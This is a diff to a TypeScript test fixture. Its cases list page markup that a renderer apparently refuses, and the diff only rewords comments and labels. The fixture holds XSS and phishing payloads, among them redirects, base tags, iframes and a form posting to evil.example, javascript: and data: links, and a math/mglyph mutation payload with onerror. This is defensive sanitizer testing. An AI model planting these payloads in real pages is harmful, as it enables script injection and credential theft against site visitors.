@@ -1,6 +1,6 @@
 import type { ArtifactCase } from '../case.ts';
 
-/** Markup that a page holds as it is, and the code it is refused with. */
+/** Raw markup of a page, and the code it is refused with. */
 const markup = (
   name: string,
   body: string,
@@ -20,7 +20,7 @@ export const MARKUP: ArtifactCase[] = [
     'stray closing tags of the shell’s landmarks',
     '</div></div></main></div><footer>owned</footer><div><div>',
   ),
-  markup('</body></html> and what follows', '</body></html><h2>owned</h2>'),
+  markup('</body></html> and more after it', '</body></html><h2>owned</h2>'),
   markup('<meta http-equiv="refresh">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
   markup('<base href>', '<base href="https://evil.example/">'),
   markup('<iframe>', '<iframe src="https://evil.example/"></iframe>'),
@@ -43,7 +43,7 @@ export const MARKUP: ArtifactCase[] = [
   markup('javascript: in a link, with a line break inside', '<a href="java&#10;script:alert(1)">x</a>'),
   markup('data: in a link', '<a href="data:text/html,<script>1</script>">x</a>'),
   markup(
-    'a form that sends elsewhere',
+    'a form that posts elsewhere',
     '<form action="https://evil.example/" method="post"><input name="email"></form>',
   ),
   markup(
@@ -66,7 +66,7 @@ export const MARKUP: ArtifactCase[] = [
   markup('<template>', '<template><p>x</p></template>'),
   markup('a foreign element that breaks out', '<svg><desc><plaintext></desc></svg>'),
   markup(
-    '<math> that changes its mind',
+    '<math> that switches parsing mode',
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
   ),
   markup('<select> and <table> that swallow', '<table><select><option>x'),
